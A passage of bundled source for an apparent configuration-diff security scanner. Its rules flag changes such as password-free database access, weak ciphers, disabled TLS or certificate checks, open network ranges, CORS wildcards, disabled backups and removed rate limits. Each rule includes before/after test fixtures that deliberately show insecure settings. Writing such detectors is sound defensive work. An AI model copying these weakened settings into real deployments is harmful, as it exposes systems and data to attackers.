      hardened: { ...hardened("password asked for"), message: (c) => `\`${c.name}\` is now set.` }
    },
    examples: [
      { before: 'maxmemory: 1\nrequirepass: "${PASSWORD}"', after: "maxmemory: 1", outcome: "drop" },
      { before: 'requirepass: "${PASSWORD}"', after: "requirepass: ''", outcome: "flip" },
      { before: "maxmemory: 1", after: 'maxmemory: 1\nrequirepass: "${PASSWORD}"', outcome: "hardened" },
      { before: 'requirepass: "${PASSWORD}"', after: 'requirepass: "${SECRET}"', outcome: "none" }
    ]
  }),
  control({
    id: "config/database-trusts-all",
    class: "permission-widening",
    title: "database asks nobody for a password",
    why: "Whoever reaches the database from there is any user they say they are, the owner included.",
    fix: "Use `scram-sha-256`.",
    governs: (setting) => /(?:^|-)(?:pg-?hba(?:-conf(?:iguration)?)?|postgres(?:ql)?-host-auth-method)$/.test(spelled(setting)),
    rank: (node) => Number(
      !textsOf(node).flatMap((text) => text.split("\n")).some((line) => /^\s*(?:host\w*\s.*\s)?trust\s*$/.test(line))
    ),
    absent: 1,
    outcomes: {
      flip: moved2("critical"),
      open: moved2("critical"),
      born: moved2("high"),
      hardened: hardened("database asks for a password")
    },
    examples: [
      { before: "POSTGRES_HOST_AUTH_METHOD: md5", after: "POSTGRES_HOST_AUTH_METHOD: trust", outcome: "flip" },
      {
        before: "pg_hba: [host all all 10.0.0.0/8 md5]",
        after: "pg_hba: [host all all 10.0.0.0/8 trust]",
        outcome: "flip"
      },
      { before: "name: db", after: "name: db\npg_hba: [host all all all trust]", outcome: "open" },
      { before: "", after: "pg_hba: [host all all all trust]", outcome: "born" },
      { before: "pg_hba: [host all all all trust]", after: "pg_hba: [host all all all md5]", outcome: "hardened" },
      {
        before: "pg_hba: [host all all all md5]",
        after: "pg_hba: [host all all all md5, local all all trust]",
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/sign-in-longer",
    class: "permission-widening",
    title: "signed in for much longer",
    why: "A stolen token or cookie is of use for more than twice as long.",
    fix: "Keep it short, and renew it while it is used.",
    governs: isLifetime,
    rank: asShort,
    outcomes: { flip: { risk: "medium", message: (c) => `\`${c.name}\` is more than twice as long as it was.` } },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: "jwt: { expiration: 3600 }", after: "jwt: { expiration: 864000 }", outcome: "flip" },
      { before: "session_timeout: 30m", after: "session_timeout: 30d", outcome: "flip" },
      { before: "session_timeout: 30m", after: "session_timeout: 45m", outcome: "none" }
    ]
  }),
  control({
    id: "config/attempts-raised",
    class: "permission-widening",
    title: "more attempts to guess a password",
    why: "Who guesses passwords gets further before being stopped.",
    fix: "Keep it at five or so.",
    governs: (setting) => /(?:^|-)(?:max(?:imum)?-(?:login-|password-|failed-)?attempts|lockout-threshold)$/.test(spelled(setting)),
    rank: asShort,
    outcomes: { flip: moved2("medium") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: "max_attempts: 5", after: "max_attempts: 1000", outcome: "flip" },
      { before: "max_attempts: 5", after: "max_attempts: 6", outcome: "none" },
      { before: "max_attempts: 5", after: "max_attempts: 3", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/application/connections.ts
var WEAK_CIPHER = /(?:^|[_-])(?:RC4|3DES|DES|DES3|NULL|EXPORT|EXP|MD5|anon|aNULL|eNULL|IDEA|SEED)(?:[_-]|$)|_CBC_SHA$|^(?:ALL|LOW|MEDIUM)$/i;
var ciphersOf = (node) => textsOf(node).flatMap((text) => text.split(/[\s:,+]+/)).filter((cipher) => cipher !== "" && !/^[!-]/.test(cipher));
var ciphers = (node) => {
  const names2 = ciphersOf(node);
  return names2.length === 0 ? void 0 : -names2.filter((name) => WEAK_CIPHER.test(name)).length;
};
function connectionOf(node) {
  const [text = ""] = node.kind === "scalar" ? textsOf(node) : [];
  const [, , value] = OPTION.exec(text) ?? [];
  if (value === void 0) return void 0;
  if (TLS_MODES.includes(value)) return TLS_MODES.indexOf(value);
  const on3 = switchOf({ ...node, kind: "scalar", text: value, value, contentLine: node.line });
  if (on3 === void 0) return void 0;
  return on3 ? TLS_MODES.indexOf("require") : 0;
}
var OPTION = /^\w+(?::\w+)?:\/\/[^\s?]+\?(?:[^\s#]*&)?(sslmode|tls|ssl|useSSL|encrypt)=([\w-]+)/i;
var connections_default = [
  control({
    id: "config/weak-cipher-added",
    class: "encryption-disabled",
    title: "weak cipher accepted",
    why: "Who listens can make both sides agree on the weak cipher, and read what they say.",
    fix: "Take it off the list; clients of the last ten years have a better one.",
    equivalents: ["checkov:CKV_K8S_105", "checkov:CKV_K8S_151"],
    governs: (setting) => /(?:^|-)cipher(?:s|-suites?|-list)?$/.test(spelled(setting)),
    rank: ciphers,
    absent: 0,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("weak cipher refused")
    },
    examples: [
      {
        before: "ciphers: ECDHE-RSA-AES128-GCM-SHA256",
        after: "ciphers: ECDHE-RSA-AES128-GCM-SHA256:RC4-SHA",
        outcome: "flip"
      },
      { before: "name: app", after: "name: app\nciphers: RC4-SHA", outcome: "open" },
      { before: "", after: "ssl: { ciphers: [DES-CBC3-SHA] }", outcome: "born" },
      { before: "ciphers: RC4-SHA:AES256-GCM-SHA384", after: "ciphers: AES256-GCM-SHA384", outcome: "hardened" },
      { before: "ciphers: HIGH", after: "ciphers: HIGH:!RC4:!aNULL", outcome: "none" }
    ]
  }),
  control({
    id: "config/connection-plain",
    class: "encryption-disabled",
    title: "connection to a database less protected",
    why: "Queries and their results, passwords included, may cross the network in clear text or reach the wrong server.",
    fix: "Keep the stricter mode in the address, and give the client the certificate of the server.",
    governs: ({ after }) => after?.kind === "scalar" && after.text.includes("://"),
    rank: connectionOf,
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition !== "flip") return void 0;
      return /=(?:disable|false|0|none)\b/i.test(to) ? "disabled" : "lowered";
    },
    outcomes: {
      disabled: moved2("critical"),
      lowered: moved2("high"),
      hardened: hardened("connection better protected")
    },
    examples: [
      {
        before: "url: postgres://db.example.com/a?sslmode=require",
        after: "url: postgres://db.example.com/a?sslmode=disable",
        outcome: "disabled"
      },
      {
        before: "url: postgres://db.example.com/a?sslmode=verify-full",
        after: "url: postgres://db.example.com/a?sslmode=require",
        outcome: "lowered"
      },
      {
        before: "url: mongodb://db.example.com/?tls=false",
        after: "url: mongodb://db.example.com/?tls=true",
        outcome: "hardened"
      },
      {
        before: "url: postgres://a.example.com/a?sslmode=require",
        after: "url: postgres://b.example.com/a?sslmode=require",
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/application/data.ts
var isDurability = protects(
  "backups?|(?<!volume-|group-)snapshots?|fsync|append-?only|wal|persistence|persistent|versioning|journal|journaling|durable|durability|point-in-time-recovery"
);
var UNITS3 = { s: 1, m: 60, h: 3600, d: 86400, w: 604800, y: 31536e3 };
function amountOf2(node) {
  const [text = ""] = textsOf(node);
  const [, count3, unit = ""] = /^(\d+(?:\.\d+)?)\s*([smhdwy]?)(?:\w*)$/i.exec(text) ?? [];
  return count3 === void 0 ? void 0 : Number(count3) * (UNITS3[unit.toLowerCase()] ?? 1);
}
var KEEPS = /(?:^|-)(?:retention|retention-(?:days?|period|time|hours?|in-days)|retain|keep-(?:days|last|daily|weekly)|history-limit)$/;
var COPIES = /(?:^|-)(?:replication-factor|min-insync-replicas|min-in-sync-replicas|write-concern|copies|num-replicas)$/;
var ACKS = { all: 2, "-1": 2, "1": 1, "0": 0 };
var DDL = ["create-drop", "create", "drop-and-create", "create-only", "update", "validate", "none"];
var data_default = [
  control({
    id: "config/durability-disabled",
    class: "data-loss",
    title: "data no longer kept safe",
    why: "After a crash, a mistake or an attack there is nothing to restore from.",
    fix: "Keep it on, and restore from it once before relying on it.",
    governs: isDurability,
    rank: blockOr(safeOn),
    ...safeWhenOn({
      risk: "high",
      dropped: "medium",
      praise: "data now kept safe",
      weak: "backup: { enabled: false }",
      safe: "backup: { enabled: true }",
      file: plainFile
    })
  }),
  control({
    id: "config/retention-lowered",
    class: "data-loss",
    title: "kept for a shorter time",
    why: "What is older is deleted at the next clean-up and cannot be had back.",
    fix: "Keep the longer time, or export what is older first.",
    governs: (setting) => KEEPS.test(spelled(setting)),
    rank: amountOf2,
    outcomes: { flip: moved2("medium"), hardened: hardened("kept for longer") },
    examples: [
      { before: "retention: 30d", after: "retention: 12h", outcome: "flip" },
      { before: "backup: { retention_days: 30 }", after: "backup: { retention_days: 7 }", outcome: "flip" },
      { before: "retention: 7d", after: "retention: 4w", outcome: "hardened" },
      { before: "retention: 24h", after: "retention: 1d", outcome: "none" }
    ]
  }),
  control({
    id: "config/copies-lowered",
    class: "data-loss",
    title: "fewer copies of data",
    why: "The loss of fewer machines than before now loses data that was confirmed as written.",
    fix: "Keep the number of copies; three stand the loss of one.",
    governs: (setting) => COPIES.test(spelled(setting)),
    rank: amountOf2,
    outcomes: { flip: moved2("medium"), hardened: hardened("more copies of data") },
    examples: [
      { before: "replication_factor: 3", after: "replication_factor: 1", outcome: "flip" },
      { before: "min.insync.replicas: 1", after: "min.insync.replicas: 2", outcome: "hardened" },
      { before: "replicas: 3", after: "replicas: 2", outcome: "none" }
    ]
  }),
  control({
    id: "config/acknowledgement-lowered",
    class: "data-loss",
    title: "writes confirmed earlier",
    why: "A message is reported as written while a single failure can still lose it.",
    fix: "Use `acks: all` for what must not be lost.",
    governs: (setting) => /(?:^|-)acks$/.test(spelled(setting)),
    rank: (node) => ACKS[textsOf(node)[0] ?? ""],
    outcomes: { flip: moved2("medium"), hardened: hardened("writes confirmed by all") },
    examples: [
      { before: "acks: all", after: "acks: 1", outcome: "flip" },
      { before: "acks: 0", after: "acks: all", outcome: "hardened" },
      { before: "acks: all", after: "acks: -1", outcome: "none" }
    ]
  }),
  control({
    id: "config/schema-overwritten",
    class: "data-loss",
    title: "schema changed at start",
    why: "The program changes or recreates the tables it finds when it starts, with the data in them.",
    fix: "Use `validate`, and change the schema by migrations.",
    governs: (setting) => /(?:^|-)(?:ddl-auto|hbm2ddl-auto|schema-generation-database-action)$/.test(spelled(setting)),
    rank: (node) => {
      const rank2 = DDL.indexOf(textsOf(node)[0] ?? "");
      return rank2 < 0 ? void 0 : rank2;
    },
    absent: DDL.indexOf("none"),
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (to === "" || to === "validate" || transition === "template") return void 0;
      return /create/.test(to) ? "drops" : "changes";
    },
    outcomes: {
      drops: {
        ...moved2("critical"),
        title: "schema dropped at start",
        why: "The tables are recreated empty at each start: the data in them is lost."
      },
      changes: moved2("high"),
      hardened: hardened("schema left alone at start")
    },
    examples: [
      {
        before: "spring: { jpa: { hibernate: { ddl-auto: validate } } }",
        after: "spring: { jpa: { hibernate: { ddl-auto: create-drop } } }",
        outcome: "drops"
      },
      { before: "ddl-auto: none", after: "ddl-auto: update", outcome: "changes" },
      { before: "ddl-auto: update", after: "ddl-auto: validate", outcome: "hardened" },
      { before: "ddl-auto: none", after: "ddl-auto: validate", outcome: "none" }
    ]
  }),
  control({
    id: "config/deletion-enabled",
    class: "data-loss",
    title: "automatic deletion switched on",
    why: "Objects that are no longer declared, or only renamed, are deleted with what they hold.",
    fix: "Leave it off, or mark what must never be deleted first.",
    governs: endsIn(
      "prune|auto-delete|allow-delete|force-delete|purge|delete-on-termination|clean-on-validation-error|skip-final-snapshot|allow-empty|clean-enabled|force-drop|drop-(?:all|tables|database|schema|existing)|wipe(?:-data)?|delete-all|truncate"
    ),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "automatic deletion switched off",
      weak: "prune: true",
      safe: "prune: false",
      file: plainFile
    })
  }),
  control({
    id: "config/clean-allowed",
    class: "data-loss",
    title: "database may be emptied by its migration tool",
    why: "One call of `clean`, by mistake or by a pipeline, drops every object of the schema.",
    fix: "Keep `clean-disabled: true`.",
    governs: (setting) => /(?:^|-)clean-disabled$/.test(spelled(setting)),
    rank: safeOn,
    ...safeWhenOn({
      risk: "high",
      dropped: "medium",
      praise: "database may not be emptied by its migration tool",
      weak: "clean-disabled: false",
      safe: "clean-disabled: true",
      file: plainFile
    })
  })
];

// src/domains/config/rules/application/encryption.ts
var isEncryption = protects(
  "m?tls|ssl|https|starttls|encrypt|encrypted|encryption|encryption-at-rest|transport-security|secure|force-https"
);
var isInsecure = endsIn(
  [
    "insecure|allow-insecure|plaintext|allow-plaintext|allow-http|trust-all|trust-all-certs|kubelet-insecure-tls",
    "(?:insecure-)?skip-(?:tls-|ssl-|cert-|certificate-)?(?:verify|verification|check|validation)",
    "(?:tls|ssl)-(?:skip|no)-verify|(?:disable|no|without|skip)-(?:m?tls|ssl|https|encryption)",
    "(?:m?tls|ssl|https|encryption)-disabled?"
  ].join("|")
);
var isVerification = protects(
  [
    "(?:verify|validate|check)-(?:m?tls|ssl|certs?|certificates?|hostnames?|peer|host)|reject-unauthorized",
    "(?:m?tls|ssl|certs?|certificates?|hostnames?|peer)-(?:verify|verification|validation|check)|(?:client|peer)-cert-auth|pythonhttpsverify"
  ].join("|")
);
var isMadeUp2 = ({ name }) => /auto-?tls$/i.test(name);
var isCookie = ({ keys }) => keys.slice(-2).some((key3) => /cookie|session/i.test(key3));
var isOfServer = ({ name }) => /cert-?auth$/i.test(name);
var VARIABLE2 = /\[name=[^\]]*\]\.value$/;
var CHECKED = safeWhenOn({
  risk: "high",
  dropped: "medium",
  praise: "certificates now checked",
  weak: "verify_ssl: false",
  safe: "verify_ssl: true",
  file: plainFile
});
var SWITCHED = safeWhenOn({
  risk: "critical",
  dropped: "high",
  praise: "encryption switched on",
  weak: "transport-security: false",
  safe: "transport-security: true",
  file: plainFile
});
var OVERRIDE = "override";
var isOverride2 = ({ document, keys, before: before3 }) => textAt(document.before?.root, "kind") === "HelmRelease" && keys[0] === "spec" && keys[1] === "values" && before3?.kind === "map" && ["enabled", "enable"].every((name) => at(before3, name) === void 0);
var release2 = (webhook2) => `apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: { name: web }
spec: { values: { webhook: { port: 1${webhook2 === "" ? "" : `, ${webhook2}`} } } }
`;
var encryption_default = [
  control({
    id: "config/encryption-disabled",
    class: "encryption-disabled",
    title: "encryption switched off",
    why: ({ subject, after }) => whoIsHurt(`${subject} ${after?.path ?? ""}`),
    fix: "Put it back; if certificates are the trouble, rotate them first.",
    governs: (setting) => isEncryption(setting) && !isVerification(setting) && !isCookie(setting) && !isMadeUp2(setting),
    rank: blockOr(safeOn),
    mark: (setting) => isOverride2(setting) ? OVERRIDE : void 0,
    ...SWITCHED,
    outcomes: {
      ...SWITCHED.outcomes,
      "default-holds": {
        ...moved2("low"),
        title: "settings of encryption left to the chart",
        why: "The chart now decides how traffic is encrypted, and whether.",
        fix: "Look up what the chart does by default."
      }
    },
    refine: ({ transition, mark: mark2 }) => {
      if (transition === "drop" && mark2 === OVERRIDE) return "default-holds";
      return transition === "born" || transition === "open" ? void 0 : transition;
    },
    examples: [
      ...SWITCHED.examples,
      { before: release2("tls: { mode: self }"), after: release2(""), outcome: "default-holds" },
      { before: release2("tls: { enabled: true }"), after: release2(""), outcome: "drop" }
    ]
  }),
  control({
    id: "config/insecure-allowed",
    class: "encryption-disabled",
    title: "insecure connections allowed",
    why: "Anybody on the way can read the traffic or answer in the name of the other side.",
    fix: "Remove the switch, and give the client the certificate authority it does not know.",
    governs: isInsecure,
    rank: safeOff,
    ...weakWhenSet({
      risk: "high",
      praise: "insecure connections no longer allowed",
      weak: "insecureSkipVerify: true",
      safe: "insecureSkipVerify: false",
      file: plainFile
    })
  }),
  control({
    id: "config/certificate-check-disabled",
    class: "encryption-disabled",
    title: "certificates no longer checked",
    why: "The connection is still encrypted, but to whoever answers: an attacker on the way can pose as the other side.",
    fix: "Check certificates again, and trust the authority that signs them.",
    governs: isVerification,
    rank: safeOn,
    ...CHECKED,
    // Clients check unless they are told not to; one that was told to may be of another mind once nobody tells it.
    absent: (setting) => Number(setting.before === void 0 && !isOfServer(setting)),
    outcomes: { ...CHECKED.outcomes, open: moved2("high") },
    refine: ({ transition, subject }) => {
      if (transition !== "born") return transition;
      return VARIABLE2.test(subject) ? "open" : void 0;
    },
    examples: [
      ...CHECKED.examples.filter(({ before: before3, outcome }) => outcome !== "none" || before3 !== plainFile("")),
      { before: plainFile("a: b"), after: plainFile("a: b\nverify_ssl: false"), outcome: "open" },
      {
        before: "env: [{ name: A, value: b }]",
        after: 'env: [{ name: A, value: b }, { name: NODE_TLS_REJECT_UNAUTHORIZED, value: "0" }]',
        outcome: "open"
      },
      { before: plainFile("a: b"), after: plainFile("a: b\nhttp: { verify_ssl: false }"), outcome: "none" },
      { before: plainFile("a: b"), after: plainFile("a: b\nverify_ssl: true"), outcome: "none" },
      { before: plainFile("a: b"), after: plainFile("a: b\nclient-cert-auth: false"), outcome: "none" }
    ]
  })
];
function whoIsHurt(about) {
  if (/etcd/i.test(about))
    return "Peer and client traffic, secrets included, crosses the network in clear text, and a node without a certificate can join.";
  return /encrypt|storage|disk|volume/i.test(about) ? "Data is kept in clear text from now on, for whoever reaches the disk or a backup of it." : "Traffic, passwords and tokens included, crosses the network in clear text for anybody on the way.";
}

// src/domains/config/rules/application/exposure.ts
var isOrigins = (setting) => /(?:^|-)(?:cors(?:-allow(?:ed)?)?(?:-origins?)?|allow(?:ed)?-(?:cors-)?origins?|access-control-allow-origin|allowed-hosts|trusted-proxies)$/.test(
  spelled(setting)
);
function origins2(node) {
  const texts = textsOf(node).flatMap((text) => text.split(/[,\s]+/));
  if (texts.length === 0) return void 0;
  return Number(!texts.some((text) => /^(?:\*|\.\*|https?:\/\/\*|0\.0\.0\.0\/0|::\/0)$/.test(text)));
}
var withCredentials = ({ ownerAfter }) => entriesOf(ownerAfter).some(([key3, value]) => wordsOf(key3).includes("credentials") && switchOf(value) === true);
var OUTWARD = /* @__PURE__ */ new Set(["egress", "outbound", "destination"]);
function isOutward({ document, keys, ownerAfter, ownerBefore }) {
  const owner = ownerAfter ?? ownerBefore;
  const held2 = keys.indexOf("Properties");
  const type = held2 < 0 ? void 0 : textAt((document.after ?? document.before)?.root, ...keys.slice(0, held2), "Type");
  if (type === "AWS::EC2::Route" || switchOf(at(owner, "Egress")) === true) return true;
  const words2 = [...keys.slice(held2 + 1), type, textAt(owner, "type"), textAt(owner, "direction")];
  return words2.flatMap((name = "") => wordsOf(name)).some((word) => OUTWARD.has(word));
}
function isNewAclEntry({ document, keys, owner }) {
  const type = textAt(document.after?.root, "Resources", keys[1] ?? "", "Type");
  return owner === "born" && type === "AWS::EC2::NetworkAclEntry";
}
var isAllowList = (setting) => isOfNetworks(setting) && !isOutward(setting) && !isNewAclEntry(setting);
var isOfNetworks = (setting) => /(?:^|-)(?:allow-?list|white-?list|white-?list-source-range|source-ranges?|(?:allowed|authorized|trusted)-(?:cidrs?|ips?|ranges|networks|sources)|cidr-?ip(?:-?v6)?|cidrs?|cidr-blocks?|source-repos)$/.test(
  spelled(setting)
);
var LOOPBACK = /^(?:127\.[\d.]+|localhost|\[?::1\]?|unix:.*|\/[\w./-]+\.sock)(?::\d+)?$/i;
var EVERYWHERE = /^(?:0\.0\.0\.0|\[?::\]?|\*)(?::\d+)?$|^:\d+$/;
function binding(node) {
  const texts = textsOf(node).flatMap((text) => text.split(/,\s*/)).map((text) => text.replace(/^[a-z]+:\/\//i, ""));
  if (texts.some((text) => EVERYWHERE.test(text))) return 0;
  return texts.length > 0 && texts.every((text) => LOOPBACK.test(text)) ? 1 : void 0;
}
var isDebug = endsIn(
  "debug|debug-mode|dev-mode|devtools|stack-?trace|show-sql|pprof|profiling|introspection|playground|graphiql|swagger-ui|h2-console|enable-debugging-handlers"
);
var isPipeline2 = ({ document }) => document.path.startsWith(".github/");
var exposure_default = [
  control({
    id: "config/cors-wildcard",
    class: "exposure",
    title: "any origin allowed",
    why: "Any web page that a user opens can call the service from their browser.",
    fix: "List the origins that need it.",
    governs: isOrigins,
    rank: origins2,
    absent: 1,
    outcomes: {
      flip: moved2("medium"),
      open: moved2("medium"),
      born: moved2("low"),
      hardened: hardened("origins listed")
    },
    examples: [
      { before: 'allowed_origins: ["https://acme.com"]', after: 'allowed_origins: ["*"]', outcome: "flip" },
      { before: "name: app", after: 'name: app\ncors: "*"', outcome: "open" },
      { before: "", after: 'cors: { allowOrigins: ["*"] }', outcome: "born" },
      { before: 'allowed_hosts: "*"', after: "allowed_hosts: acme.com", outcome: "hardened" },
      {
        before: 'allowed_origins: ["https://acme.com"]',
        after: 'allowed_origins: ["https://acme.org"]',
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/cors-wildcard-credentials",
    class: "exposure",
    title: "any origin allowed, with credentials",
    why: "Any web page that a signed-in user opens can act in their name.",
    fix: "List the origins that need it, or do not allow credentials.",
    governs: isOrigins,
    rank: (node, setting) => withCredentials(setting) ? origins2(node) : void 0,
    absent: 1,
    outcomes: { flip: moved2("high"), open: moved2("high"), born: moved2("medium") },
    examples: [
      {
        before: "cors: { origins: [], allow_origins: [acme.com], allow_credentials: true }",
        after: 'cors: { origins: [], allow_origins: ["*"], allow_credentials: true }',
        outcome: "flip"
      },
      {
        before: "cors: { allow_credentials: true }",
        after: 'cors: { allow_credentials: true, allow_origins: "*" }',
        outcome: "open"
      },
      { before: "", after: 'cors: { allow_credentials: true, allow_origins: "*" }', outcome: "born" },
      { before: "allow_origins: [acme.com]", after: 'allow_origins: ["*"]', outcome: "none" }
    ]
  }),
  control({
    id: "config/allow-list-opened",
    class: "exposure",
    title: "open to everybody",
    why: "Every address on the internet may connect, and scanners find it within minutes.",
    fix: "List the networks that need it.",
    governs: isAllowList,
    rank: origins2,
    outcomes: {
      flip: moved2("high"),
      open: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("networks listed")
    },
    examples: [
      {
        before: "loadBalancerSourceRanges: [10.0.0.0/8]",
        after: "loadBalancerSourceRanges: [0.0.0.0/0]",
        outcome: "flip"
      },
      { before: "name: app", after: 'name: app\nallowed_cidrs: ["::/0"]', outcome: "open" },
      { before: "", after: "CidrIp: 0.0.0.0/0", outcome: "born" },
      { before: 'whitelist: ["*"]', after: "whitelist: [10.0.0.0/8]", outcome: "hardened" },
      { before: "", after: "egress:\n- cidr_blocks: [0.0.0.0/0]", outcome: "none" },
      { before: "", after: "rules: [{ type: egress, cidr_blocks: [0.0.0.0/0] }]", outcome: "none" },
      { before: "", after: "rules: [{ type: ingress, cidr_blocks: [0.0.0.0/0] }]", outcome: "born" },
      { before: "", after: "routes: [{ destination_cidr: 0.0.0.0/0 }]", outcome: "none" },
      { before: "", after: "routes: [{ path: /, whitelist: 0.0.0.0/0 }]", outcome: "born" },
      { before: "allowed_cidrs: [10.0.0.0/8]", after: "allowed_cidrs: [10.0.0.0/8, 10.1.0.0/16]", outcome: "none" },
      { before: "", after: "DestinationCidrBlock: 0.0.0.0/0", outcome: "none" },
      { before: "", after: "SecurityGroupEgress: [{ CidrIp: 0.0.0.0/0 }]", outcome: "none" },
      {
        before: "",
        after: 'Resources: { Out: { Type: "AWS::EC2::SecurityGroupEgress", Properties: { CidrIp: 0.0.0.0/0 } } }',
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/bind-address-opened",
    class: "exposure",
    title: "listens to every network",
    why: "What only the machine itself could reach is open to every network it is connected to.",
    fix: "Bind to loopback, or to the one address that needs it, and put a proxy with authentication in front.",
    governs: (setting) => /(?:^|-)(?:bind|bind-(?:address|addr|ip|host)|listen(?:-\w+)?-(?:address(?:es)?|addr|hosts?|urls?)|listen|(?:http|server|management|web)-(?:host|address|addr|listen)|address|addr|host|interface)$/.test(
      spelled(setting)
    ),
    rank: binding,
    outcomes: {
      flip: moved2("high"),
      drop: moved2("medium"),
      hardened: hardened("listens to the machine itself only")
    },
    // Without a word of its own a server listens everywhere; a client is only told less.
    refine: ({ transition, subject }) => {
      if (transition === "drop") return /(?:bind|listen)[\w-]*$|server\.address$/i.test(subject) ? "drop" : void 0;
      return transition === "flip" || transition === "hardened" ? transition : void 0;
    },
    examples: [
      { before: "bind: 127.0.0.1", after: "bind: 0.0.0.0", outcome: "flip" },
      {
        before: "listen-client-urls: https://127.0.0.1:2379",
        after: "listen-client-urls: https://0.0.0.0:2379",
        outcome: "flip"
      },
      { before: "server: { address: 127.0.0.1, port: 1 }", after: "server: { port: 1 }", outcome: "drop" },
      { before: "http_host: 0.0.0.0:80", after: "http_host: localhost:80", outcome: "hardened" },
      { before: "name: app", after: "name: app\nbind: 0.0.0.0", outcome: "none" },
      { before: "host: 10.0.0.4", after: "host: 10.0.0.5", outcome: "none" }
    ]
  }),
  control({
    id: "config/debug-enabled",
    class: "exposure",
    title: "debugging switched on",
    why: "Debug pages and traces show internals, and often passwords and personal data, to whoever asks.",
    fix: "Keep it off wherever real users or real data are.",
    governs: (setting) => isDebug(setting) && !isPipeline2(setting),
    rank: safeOff,
    ...weakWhenSet({
      risk: "medium",
      praise: "debugging switched off",
      weak: "debug: true",
      safe: "debug: false",
      file: plainFile
    })
  })
];

// src/domains/config/rules/application/limits.ts
var isValidation = protects(
  "validate|validation|verify|verification|verify-(?:signatures?|images?|checksums?)|signature-verification|image-verification|checksum|gpg-?check|require-signed|strict-validation|content-trust"
);
var countOf2 = (node) => {
  const [text = ""] = textsOf(node);
  return /^\d+$/.test(text) ? Number(text) : void 0;
};
var TIMEOUT = /(?:^|-)timeout(?:-(?:seconds|secs|ms|millis))?$/;
var NEVER = /^(?:0[a-z]*|-1[a-z]*|infinite|infinity|none|never)$/i;
var ROOM = /(?:^|-)(?:max-connections|max(?:imum)?-pool-size|pool-size|queue-(?:size|capacity|length)|heap(?:-size)?|xmx|max-memory|maxmemory|(?:max-)?retries|max-threads|worker-(?:count|threads))$/;
var isApplication = ({ document, isNested }) => isNested || document.dialect !== "kubernetes" && document.dialect !== "compose";
var BYTES = { k: 2 ** 10, m: 2 ** 20, g: 2 ** 30 };
var MUCH = 10;
function roomOf(node) {
  const [, count3, unit = ""] = /^(\d{1,12})\s*([kmg])?i?b?$/i.exec(textsOf(node)[0] ?? "") ?? [];
  return count3 === void 0 ? void 0 : Number(count3) * (BYTES[unit.toLowerCase()] ?? 1);
}
function roomLeft(node, { before: before3 }) {
  const [was, is] = [roomOf(before3), roomOf(node)];
  return was === void 0 || is === void 0 ? void 0 : Number(is > was / MUCH);
}
var isLimit = protects(
  "rate-limit|rate-limits|rate-limiting|throttle|throttling|lockout|brute-force-protection|captcha|waf"
);
var OF_ANSIBLE = /(?:^|\/)(?:handlers|playbooks|tasks)\//;
var limits_default = [
  control({
    id: "config/validation-disabled",
    class: "supply-chain",
    title: "validation switched off",
    why: "What is broken, forged or not signed is taken as it comes.",
    fix: "Keep the check; make an exception by name where one is needed.",
    governs: isValidation,
    rank: blockOr(safeOn),
    ...safeWhenOn({
      risk: "high",
      dropped: "low",
      praise: "validation switched on",
      weak: "verify_signatures: false",
      safe: "verify_signatures: true",
      file: plainFile
    })
  }),
  control({
    id: "config/password-rule-lowered",
    class: "permission-widening",
    title: "password rule lowered",
    why: "Shorter passwords are guessed sooner.",
    fix: "Keep twelve characters at least.",
    governs: (setting) => /(?:^|-)(?:password|passwd|pwd)(?:-policy)?-(?:min(?:imum)?-)?(?:length|len)$|^min(?:imum)?-password-length$/.test(
      spelled(setting)
    ) || /^min(?:imum)?-length$/.test(spelled(setting)) && /passw(?:or)?d/i.test(setting.keys.at(-2) ?? ""),
    rank: countOf2,
    outcomes: { flip: moved2("medium"), hardened: hardened("password rule raised") },
    examples: [
      { before: "password_min_length: 12", after: "password_min_length: 6", outcome: "flip" },
      { before: "min_password_length: 8", after: "min_password_length: 12", outcome: "hardened" },
      { before: "password_length: 20 # generated", after: "password_length: 20", outcome: "none" }
    ]
  }),
  control({
    id: "config/abuse-limit-disabled",
    class: "availability",
    title: "limit against abuse switched off",
    why: "One caller can guess passwords without end, or take the service away from all others.",
    fix: "Raise the limit instead of removing it.",
    governs: (setting) => isLimit(setting) && !OF_ANSIBLE.test(setting.document.path),
    rank: blockOr(safeOn),
    ...safeWhenOn({
      risk: "medium",
      dropped: "medium",
      praise: "limit against abuse switched on",
      weak: "rate_limit: { enabled: false }",
      safe: "rate_limit: { enabled: true }",
      file: plainFile
    })
  }),
  control({
    id: "config/timeout-removed",
    class: "availability",
    title: "timeout removed",
    why: "A call that never answers holds its connection forever, until none is left.",
    fix: "Set a long timeout rather than none.",
    governs: (setting) => TIMEOUT.test(spelled(setting)),
    rank: (node) => textsOf(node)[0] === void 0 ? void 0 : Number(!NEVER.test(textsOf(node)[0] ?? "")),
    outcomes: { flip: moved2("low"), hardened: hardened("timeout set") },
    examples: [
      { before: "timeout: 30s", after: "timeout: 0", outcome: "flip" },
      { before: "read_timeout: -1", after: "read_timeout: 5s", outcome: "hardened" },
      { before: "timeout: 30s", after: "timeout: 60s", outcome: "none" }
    ]
  }),
  control({
    id: "config/breaker-disabled",
    class: "availability",
    title: "circuit breaker switched off",
    why: "Calls to a service that is down pile up, and take the caller down too.",
    fix: "Keep it on, with a higher threshold.",
    governs: protects("circuit-?breaker|bulkhead|load-shedding|back-?pressure"),
    rank: blockOr(safeOn),
    ...safeWhenOn({
      risk: "medium",
      dropped: "low",
      praise: "circuit breaker switched on",
      weak: "circuit_breaker: { enabled: false }",
      safe: "circuit_breaker: { enabled: true }",
      file: plainFile
    })
  }),
  control({
    id: "config/capacity-lowered",
    class: "availability",
    title: "far less room than before",
    why: "What fitted before, connections, retries or memory, no longer does: calls fail under the usual load.",
    fix: "Lower it in steps, and watch what is refused.",
    governs: (setting) => ROOM.test(spelled(setting)) && isApplication(setting),
